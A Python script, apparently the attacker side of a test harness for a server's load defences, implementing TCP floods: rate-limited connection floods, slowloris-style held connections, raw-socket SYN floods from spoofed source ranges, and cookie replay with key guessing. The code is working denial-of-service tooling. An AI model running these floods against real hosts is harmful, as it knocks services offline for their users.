"""A flood of TCP connections from many addresses, as a process in the network namespace of the attacker.

It needs nothing but the standard library, and says `flooding` on standard output when it is at its strength. It ends
when its standard input does, and then writes what it did as one line of JSON.

Kinds:
    silent: opens connections at a rate and says nothing.
    slow: holds so many connections, and says a byte of the first bytes of a client every now and then.
    half-open: sends so many SYNs a second and never acknowledges what comes back.
    cookies: opens connections at a rate, says the first bytes of a client, comes again with the cookie, and guesses
        the key.
"""

from __future__ import annotations

import argparse
import contextlib
import errno
import heapq
import ipaddress
import json
import os
import random
import select
import socket
import struct
import sys
import time
from dataclasses import dataclass, field

BYTE_EVERY_S = 0.25
TICK_S = 0.01
WARM_UP_S = 1.0
FIRST_BYTES = b"SIXB\x02\x01" + bytes(2)
COOKIE_BYTES = 24
HANDSHAKE = b"\x00\x30" + bytes(range(48))
ANSWER_BYTES = 7
RETRY = 1


@dataclass(frozen=True, kw_only=True)
class Sources:
    """The addresses that a flood comes from.

    Attributes:
        network: all of them are of it; the machine's routes send answers back here.
        count: how many. IPv4 addresses are in as many /24 as the network has; IPv6 addresses are random, and so in as
            many /64.
    """

    network: ipaddress.IPv4Network | ipaddress.IPv6Network
    count: int

    def pick(self, chance: random.Random) -> str:
        """One of them."""
        number = chance.randrange(self.count)
        if self.network.version == 4:
            size = self.network.num_addresses
            return str(self.network.network_address + (number * 256 + 1 + number * 256 // size) % size)
        return str(self.network.network_address + random.Random(number).getrandbits(128 - self.network.prefixlen))


@dataclass(kw_only=True)
class Flood:
    """One flood at work."""

    kind: str
    host: str
    port: int
    sources: Sources
    rate: float
    held: int
    chance: random.Random = field(default_factory=lambda: random.Random(1))
    counts: dict[str, int] = field(default_factory=lambda: {"opened": 0, "connected": 0, "failed": 0, "cookies": 0})
    sockets: dict[int, socket.socket] = field(default_factory=dict)
    cookies: dict[int, bytes] = field(default_factory=dict)
    bytes_sent: dict[int, int] = field(default_factory=dict)
    due: list[tuple[float, int, socket.socket]] = field(default_factory=list)
    poll: select.epoll = field(default_factory=select.epoll)

    def run(self) -> None:
        """Floods until standard input ends."""
        os.set_blocking(0, False)
        self.poll.register(0, select.EPOLLIN)
        began = last = time.monotonic()
        owed, strong = 0.0, False
        while True:
            for descriptor, events in self.poll.poll(TICK_S):
                if descriptor == 0:
                    return
                self.serve(descriptor, events)
            now = time.monotonic()
            owed = min(owed + (now - last) * self.rate, self.rate * 0.2)
            last = now
            while owed >= 1 and (self.kind != "slow" or len(self.sockets) < self.held):
                owed -= 1
                self.half_open() if self.kind == "half-open" else self.open()
            self.drip(now)
            if not strong and now - began >= WARM_UP_S:
                strong = True
                print("flooding", flush=True)

    def open(self, cookie: bytes = b"", source: str | None = None) -> None:
        """Begins a connection."""
        family = socket.AF_INET if self.sources.network.version == 4 else socket.AF_INET6
        try:
            connection = socket.socket(family, socket.SOCK_STREAM | socket.SOCK_NONBLOCK)
            connection.setsockopt(socket.IPPROTO_IP, 24, 1)  # IP_BIND_ADDRESS_NO_PORT: the port is chosen by connect
            connection.bind((source or self.sources.pick(self.chance), 0))
            begun = connection.connect_ex((self.host, self.port))
        except OSError:
            begun = errno.EMFILE
        self.counts["opened"] += 1
        if begun != errno.EINPROGRESS:
            self.counts["failed"] += 1
            return
        self.sockets[connection.fileno()] = connection
        if cookie:
            self.cookies[connection.fileno()] = cookie
        self.poll.register(connection.fileno(), select.EPOLLOUT | select.EPOLLIN)

    def half_open(self) -> None:
        """Sends a SYN from an address whose answers nobody takes."""
        family = socket.AF_INET if self.sources.network.version == 4 else socket.AF_INET6
        source = self.sources.pick(self.chance)
        with socket.socket(family, socket.SOCK_RAW, socket.IPPROTO_TCP) as raw, contextlib.suppress(OSError):
            raw.bind((source, 0))
            raw.sendto(syn(source, self.host, self.chance.randrange(1024, 65536), self.port), (self.host, 0))
        self.counts["opened"] += 1

    def serve(self, descriptor: int, events: int) -> None:
        """Goes on with a connection about which there are news."""
        connection = self.sockets[descriptor]
        with contextlib.suppress(OSError):
            if events & select.EPOLLOUT and connection.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0:
                self.counts["connected"] += 1
                self.poll.modify(descriptor, select.EPOLLIN)
                self.speak(descriptor, connection)
            if not events & (select.EPOLLIN | select.EPOLLHUP | select.EPOLLERR):
                return
            answer = connection.recv(4096)
            if answer[6:ANSWER_BYTES] == bytes([RETRY]) and self.kind == "cookies":
                self.counts["cookies"] += 1
                self.open(answer[ANSWER_BYTES : ANSWER_BYTES + COOKIE_BYTES], connection.getsockname()[0])
            elif answer:
                return
        self.close(descriptor, connection)

    def speak(self, descriptor: int, item: socket.socket) -> None:
        """Sends the first bytes of a connection."""
        if self.kind == "cookies":
            item.send(FIRST_BYTES + self.cookies.get(descriptor, bytes(COOKIE_BYTES)) + HANDSHAKE)
        elif self.kind == "slow":
            self.bytes_sent[descriptor] = 0
            heapq.heappush(self.due, (time.monotonic(), descriptor, item))

    def drip(self, now: float) -> None:
        """The next bytes of slow connections."""
        while self.due and self.due[0][0] <= now:
            _, descriptor, item = heapq.heappop(self.due)
            if self.sockets.get(descriptor) is not item:
                continue
            at = self.bytes_sent[descriptor] = self.bytes_sent[descriptor] + 1
            with contextlib.suppress(OSError):
                item.send(FIRST_BYTES[at - 1 : at] or b"\x00")
            heapq.heappush(self.due, (now + BYTE_EVERY_S, descriptor, item))

    def close(self, descriptor: int, item: socket.socket) -> None:
        """Forgets a connection that has ended."""
        self.poll.unregister(descriptor)
        del self.sockets[descriptor]
        self.cookies.pop(descriptor, None)
        self.bytes_sent.pop(descriptor, None)
        item.close()


def syn(source: str, target: str, source_port: int, port: int) -> bytes:
    """The segment with its checksum (RFC 9293 section 3.1)."""
    header = struct.pack("!HHIIBBHHH", source_port, port, 7, 0, 5 << 4, 2, 65535, 0, 0)
    addresses = ipaddress.ip_address(source).packed + ipaddress.ip_address(target).packed
    whole = addresses + struct.pack("!II", len(header), socket.IPPROTO_TCP) + header
    total = sum(struct.unpack(f"!{len(whole) // 2}H", whole))
    total = (total & 0xFFFF) + (total >> 16)
    checksum = ~((total & 0xFFFF) + (total >> 16)) & 0xFFFF
    return header[:16] + struct.pack("!H", checksum) + header[18:]


def main() -> None:
    """Floods as the arguments say."""
    parser = argparse.ArgumentParser()
    parser.add_argument("kind", choices=("silent", "slow", "half-open", "cookies"))
    parser.add_argument("host")
    parser.add_argument("port", type=int)
    parser.add_argument("--network", type=ipaddress.ip_network, required=True)
    parser.add_argument("--addresses", type=int, required=True)
    parser.add_argument("--rate", type=float, required=True, help="new ones a second")
    parser.add_argument("--held", type=int, default=0, help="slow: so many at a time")
    given = parser.parse_args()
    sources = Sources(network=given.network, count=given.addresses)
    flood = Flood(kind=given.kind, host=given.host, port=given.port, sources=sources, rate=given.rate, held=given.held)
    flood.run()
    sys.stdout.write(json.dumps(flood.counts) + "\n")


if __name__ == "__main__":
    main()
